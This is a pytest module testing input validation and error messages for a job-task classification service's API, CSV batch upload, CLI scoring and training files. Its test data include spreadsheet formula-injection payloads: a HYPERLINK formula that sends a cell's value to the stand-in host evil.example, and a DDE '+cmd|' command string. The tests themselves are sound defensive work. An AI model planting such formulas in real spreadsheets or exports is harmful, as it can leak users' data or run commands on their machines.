"""The bad-input table: every entry point (API, CSV batches sent the page's way, CLI scoring, training
files), each case with the status or exit code and the message it must get. Never a traceback."""
from __future__ import annotations

import csv
import io
import json

import pytest

from classifier.parts import MAX_PART_CHARS

from reliability_helpers import API_KEY
from datasets.loaders import load_labeled_file
from reliability_helpers import assert_answered_well
from scripts.cli import main as outsort

NO_BREAKS = " ".join(["reconcile vendor statements against the ledger and post the adjusting entries"] * 300)
FORMULA = "=HYPERLINK(\"http://evil.example/x\"&A1,\"click\")"
MIXED = "Process invoices – über café".encode() + b"\nAnswer calls \xe9t\xe9\n"  # UTF-8, then Latin-1


@pytest.fixture(scope="module")
def client(tmp_path_factory, shared_registry):
    """One app for the whole table: building one loads the model, and no case changes it."""
    from reliability_helpers import app_config
    from service import create_app
    return create_app(app_config(tmp_path_factory.mktemp("bad-input"), shared_registry)).test_client()


def _json(value) -> dict:
    return {"data": json.dumps(value), "content_type": "application/json"}


# ------------------------------------------------------------------------------ API
# (name, path, request kwargs, status, error code, field or None, words the message holds)
API_CASES = [
    ("empty text", "/v1/classify", _json({"text": ""}), 422, "empty_value", "text", "must not be empty"),
    ("whitespace-only text", "/v1/classify", _json({"text": " \t\n\u3000\ufeff"}), 422, "empty_value", "text", "empty"),
    ("one blank text in a batch", "/v1/classify", _json({"texts": ["answer calls", "file claims", "  "]}), 422,
     "empty_value", "texts[2]", "texts[2] must not be empty"),
    ("1 MB text", "/v1/classify", _json({"text": "x" * 1_000_000}), 422, "too_long", "text", "1000000 characters"),
    ("100,000-row batch", "/v1/classify", _json({"texts": ["answer calls"] * 100_000}), 422, "too_many_items",
     "texts", "100000 items; the limit is 1000"),
    ("unpaired surrogate", "/v1/classify", {"data": b'{"text": "calls \\ud800"}', "content_type": "application/json"},
     422, "invalid_text", "text", "unpaired surrogate"),
    ("text is a number", "/v1/classify", _json({"text": 42}), 422, "wrong_type", "text", "must be a string"),
    ("body is null", "/v1/classify", _json(None), 422, "wrong_type", None, "body must be an object"),
    ("unknown field", "/v1/classify", _json({"txt": "calls"}), 422, "unknown_field", "txt", "unknown field 'txt'"),
    ("text and texts", "/v1/classify", _json({"text": "a b c", "texts": ["a"]}), 422, "conflicting_fields", "texts",
     "only one of"),
    ("NaN", "/v1/classify", {"data": b'{"text": NaN}', "content_type": "application/json"}, 400, "invalid_json", None,
     "NaN is not valid JSON"),
    ("deep JSON", "/v1/classify", {"data": b"[" * 100_000 + b"]" * 100_000, "content_type": "application/json"}, 400,
     "invalid_json", None, "nested too deeply"),
    ("Latin-1 bytes in JSON", "/v1/classify", {"data": b'{"text": "caf\xe9"}', "content_type": "application/json"},
     400, "invalid_json", None, "not valid JSON"),
    ("binary body", "/v1/jobs", {"data": b"PK\x03\x04\x00\xff\xfe", "content_type": "text/plain"}, 400,
     "invalid_text", None, "not valid utf-8"),
    ("mixed encodings as text/plain", "/v1/jobs", {"data": MIXED, "content_type": "text/plain"}, 400, "invalid_text",
     None, "not valid utf-8"),
    ("unknown charset", "/v1/jobs", {"data": b"answer calls", "content_type": "text/plain; charset=klingon"}, 400,
     "invalid_text", None, "klingon"),
    ("form post", "/v1/classify", {"data": {"text": "calls"}}, 415, "unsupported_media_type", None,
     "application/json"),
    ("XML", "/v1/classify", {"data": "<text>calls</text>", "content_type": "application/xml"}, 415,
     "unsupported_media_type", None, "application/xml"),
    ("job description too long", "/v1/jobs", _json({"description": "duty. " * 10_000}), 422, "too_long",
     "description", "the limit is 50000"),
    ("job title too long", "/v1/jobs", {"data": "answer calls", "content_type": "text/plain",
                                        "query_string": {"title": "t" * 501}}, 422, "too_long", "title", "limit is 500"),
    ("too many jobs", "/v1/jobs", _json({"jobs": [{"description": "answer calls"}] * 101}), 422, "too_many_items",
     "jobs", "the limit is 100"),
    ("job without description", "/v1/jobs", _json({"jobs": [{"title": "clerk"}]}), 422, "missing_field",
     "jobs[0].description", "jobs[0].description is required"),
    ("label outside the set", "/v1/feedback", _json({"text": "file claims", "category": "outsourced"}), 422,
     "invalid_value", "category", "must be one of bpo_front_office"),
    ("label in the wrong case", "/v1/feedback", _json({"text": "file claims", "category": "KPO"}), 422,
     "invalid_value", "category", "must be one of"),
    ("automation level 7", "/v1/feedback", _json({"text": "file claims", "category": "kpo", "automation_level": 7}),
     422, "invalid_value", "automation_level", "between 0 and 4"),
    ("automation level true", "/v1/feedback", _json({"text": "x y z", "category": "kpo", "automation_level": True}),
     422, "wrong_type", "automation_level", "not a boolean"),
    ("body over 16 MB", "/v1/classify", {"data": b" " * (16 * 1024 * 1024 + 1), "content_type": "application/json"},
     413, "payload_too_large", None, "exceeds the capacity limit"),
    ("GET on a POST route", "/v1/classify", {"method": "GET"}, 405, "method_not_allowed", None, "not allowed"),
    ("unknown path", "/v1/clasify", _json({"text": "calls"}), 404, "not_found", None, "not found"),
]


@pytest.mark.parametrize("name, path, kwargs, status, code, field, words", API_CASES, ids=[c[0] for c in API_CASES])
def test_api_bad_input(client, name, path, kwargs, status, code, field, words):
    kwargs = dict(kwargs)
    method = kwargs.pop("method", "POST")
    response = client.open(path, method=method, headers={"X-API-Key": API_KEY}, **kwargs)
    assert_answered_well(response)
    error = response.get_json()["error"]
    assert (response.status_code, error["code"], error["field"]) == (status, code, field), error
    assert words.lower() in error["message"].lower()


# Inputs that look odd but are legitimate: answered, and kept exactly as sent.
def test_formula_injection_text_is_classified_and_echoed_verbatim(client):
    response = client.post("/v1/jobs", json={"description": f"- {FORMULA}\n- +cmd|' /C calc'!A0\n- @SUM(1+1)*cmd"})
    assert response.status_code == 200
    texts = [task["text"] for task in response.get_json()["jobs"][0]["tasks"]]
    assert FORMULA in texts  # JSON is not a spreadsheet: escaping is the CSV writer's job


def test_a_job_description_with_no_sentence_breaks_is_cut_into_bounded_parts(client):
    response = client.post("/v1/jobs", json={"description": NO_BREAKS})
    assert response.status_code == 200
    job = response.get_json()["jobs"][0]
    parts = [t["text"] for t in job["tasks"]] + [s["text"] for s in job["left_out"]]
    assert job["n_tasks"] >= 1
    assert all(len(p) <= MAX_PART_CHARS for p in parts)
    # Every word comes back in some part: nothing is dropped for being long.
    assert sorted(" ".join(parts).split()) == sorted(NO_BREAKS.split())


def test_duplicate_corrections_are_each_stored(client):
    body = {"text": "file claims", "category": "bpo_back_office", "prediction_id": "req-1-0"}
    ids = [client.post("/v1/feedback", json=body, headers={"X-API-Key": API_KEY}).get_json()["id"] for _ in range(2)]
    assert len(set(ids)) == 2  # an append-only log: the latest correction wins when training merges them


def test_duplicate_json_keys_take_the_last_value(client):
    response = client.post("/v1/classify", data=b'{"text": "", "text": "answer customer calls"}',
                           content_type="application/json")
    assert response.status_code == 200  # as every JSON parser does; the first value is never seen


def test_declared_latin1_text_is_decoded(client):
    response = client.post("/v1/jobs", data="Répondre aux appels des clients".encode("latin-1"),
                           content_type="text/plain; charset=latin-1")
    assert response.status_code == 200
    assert response.get_json()["jobs"][0]["tasks"][0]["text"] == "Répondre aux appels des clients"


# ------------------------------------------------------------------------------ CSV, the page's way
def page_batches(csv_bytes: bytes, column: str, size: int = 200):
    """What the page does with an uploaded CSV: read the chosen column, send batches of ``size``."""
    rows = list(csv.DictReader(io.StringIO(csv_bytes.decode("utf-8-sig"), newline="")))
    texts = [row[column] for row in rows]
    return [texts[i:i + size] for i in range(0, len(texts), size)]


def test_csv_upload_with_formulas_quotes_and_line_breaks(client):
    data = ("\ufeffid,task\n1,=SUM(A1:A9)\n2,\"Answer calls,\nthen log them\"\n3,@cmd\n4,\"-2+3\"\r\n5,+44 20 7946 0000\n"
            ).encode()
    [batch] = page_batches(data, "task")
    response = client.post("/v1/classify", json={"texts": batch, "explain": False})
    assert response.status_code == 200
    assert len(response.get_json()["predictions"]) == 5


def test_csv_upload_with_an_empty_cell_names_the_row(client):
    rows = "".join(f"{i},answer customer calls {i}\n" for i in range(250))
    data = f"id,task\n{rows}250, \n".encode()
    answers = [client.post("/v1/classify", json={"texts": batch, "explain": False})
               for batch in page_batches(data, "task")]
    assert [a.status_code for a in answers] == [200, 422]
    assert answers[1].get_json()["error"]["field"] == "texts[50]"  # row 250 = second batch, item 50


# ------------------------------------------------------------------------------ CLI scoring and training files
CLI_CASES = [
    # (name, file name, content, extra args, exit code, words in the last stderr line)
    ("binary file renamed .csv", "upload.csv", b"PK\x03\x04\x14\x00\x08\x00\x00\x00" + bytes(range(256)), [], 2,
     "not a text file (binary content)"),
    ("mixed encodings", "mixed.csv", b"text\n" + MIXED, [], 2, "line 3: not valid UTF-8"),
    ("empty file", "empty.csv", b"", [], 2, "cannot parse as csv"),
    ("header only", "header.csv", b"text\n", [], 2, "no rows to score"),
    ("no text column", "cols.csv", b"id,body\n1,answer calls\n", [], 2, "no column 'text'"),
    ("whitespace-only cell", "blank.csv", b"text\nanswer calls\n\"  \t \"\n", [], 2, "row 2: column 'text' is empty"),
    ("ragged row", "ragged.csv", b"id,text\n1,answer calls\n2,file claims,extra,more\n", [], 2, "cannot parse as csv"),
    ("missing file", None, None, [], 2, "file not found"),
    ("formula-injection cells", "formula.csv",
     f"id,text\n1,\"{FORMULA.replace(chr(34), chr(34) * 2)}\"\n2,@cmd\n".encode(),
     [], 0, "scored 2 rows"),
    ("duplicate ids", "dups.csv", b"id,text\n7,answer calls\n7,file claims\n7,answer calls\n", [], 0, "scored 3 rows"),
    ("1 MB text in a cell", "big.csv", b"text\n" + b"invoice " * 131_072 + b"\n", [], 0, "scored 1 rows"),
    ("job description with no sentence breaks", "jobs.csv", f"title,description\nclerk,{NO_BREAKS}\n".encode(),
     ["--jobs"], 0, "scored 1 rows"),
]


@pytest.mark.parametrize("name, filename, content, extra, code, words", CLI_CASES, ids=[c[0] for c in CLI_CASES])
def test_cli_predict_bad_input(shared_registry, tmp_path, capsys, name, filename, content, extra, code, words):
    source = tmp_path / (filename or "absent.csv")
    if content is not None:
        source.write_bytes(content)
    output = tmp_path / "scored.csv"
    argv = ["--registry", str(shared_registry.root), "predict", "--input", str(source), "--output", str(output), *extra]
    assert outsort(argv) == code
    err = capsys.readouterr().err
    assert "Traceback" not in err
    assert words in err.strip().splitlines()[-1]
    assert output.exists() == (code == 0) and not (tmp_path / "scored.csv.partial").exists()


def test_cli_keeps_formula_cells_and_duplicate_ids_as_given(shared_registry, tmp_path, capsys):
    """The CLI writes the user's own cells back unchanged (an import tool must round-trip them); the
    page's download, which spreadsheets open directly, is the one that escapes formulas."""
    source, output = tmp_path / "in.csv", tmp_path / "out.csv"
    with open(source, "w", newline="") as handle:
        csv.writer(handle).writerows([("id", "text"), ("7", FORMULA), ("7", "-2+3 adjust the ledger"), ("8", "@cmd")])
    assert outsort(["--registry", str(shared_registry.root), "predict", "--input", str(source),
                    "--output", str(output)]) == 0
    with open(output, newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [(r["id"], r["text"]) for r in rows] == [("7", FORMULA), ("7", "-2+3 adjust the ledger"), ("8", "@cmd")]


def test_cli_scores_a_100000_row_file(shared_registry, tmp_path, capsys):
    source, output = tmp_path / "many.txt", tmp_path / "many.csv"
    source.write_text("".join(f"answer customer call number {i}\n" for i in range(100_000)))
    assert outsort(["--registry", str(shared_registry.root), "predict", "--input", str(source),
                    "--output", str(output)]) == 0
    with open(output) as handle:
        assert sum(1 for _ in handle) == 100_001


TRAIN_CASES = [
    ("label outside the set", b"text,label\nfile the claims,back_office\n", "row 2, column 'label': unknown label"),
    ("empty text", b"text,label\n   ,kpo\n", "row 2, column 'text': empty text"),
    ("20,000-character text", b"text,label\n" + b"x" * 20_000 + b",kpo\n",
     "row 2, column 'text': text longer than 10000"),
    ("1 MB text", b"text,label\n" + b"x" * 1_000_000 + b",kpo\n",
     "line 2: not readable as CSV (field larger than field limit"),
    ("automation level outside 0-4", b"text,label,automation_level\nfile claims,kpo,7\n",
     "row 2, column 'automation_level': automation level must be 0-4"),
    ("missing label column", b"text\nfile claims\n", "row 1, column 'label': missing column"),
    ("binary file renamed .csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "not a text file (binary content)"),
    ("mixed encodings", b"text,label\n" + MIXED.replace(b"\n", b",kpo\n"), "line 3: not valid UTF-8"),
    ("ragged row", b"text,label\nfile claims,kpo,extra\n", "row 2: more fields than the header has"),
    ("empty file", b"", "empty file, expected a header row"),
]


@pytest.mark.parametrize("name, content, words", TRAIN_CASES, ids=[c[0] for c in TRAIN_CASES])
def test_cli_train_refuses_bad_label_files_before_fitting(own_registry, tmp_path, capsys, name, content, words):
    labels = tmp_path / "labels.csv"
    labels.write_bytes(content)
    before = (own_registry.current(), own_registry.versions())
    assert outsort(["--registry", str(own_registry.root), "train", "--data", str(labels)]) == 2
    err = capsys.readouterr().err
    assert "Traceback" not in err and words in err
    assert (own_registry.current(), own_registry.versions()) == before


def test_label_files_keep_formula_cells_and_duplicates_as_written(tmp_path):
    labels = tmp_path / "labels.csv"
    with open(labels, "w", newline="") as handle:
        csv.writer(handle).writerows([("text", "label", "group"), (FORMULA, "kpo", "g1"), ("file claims", "kpo", "g1"),
                                      ("file claims", "kpo", "g1")])
    frame = load_labeled_file(labels)
    assert frame["text"].tolist() == [FORMULA, "file claims", "file claims"]
    assert frame["group"].nunique() == 1
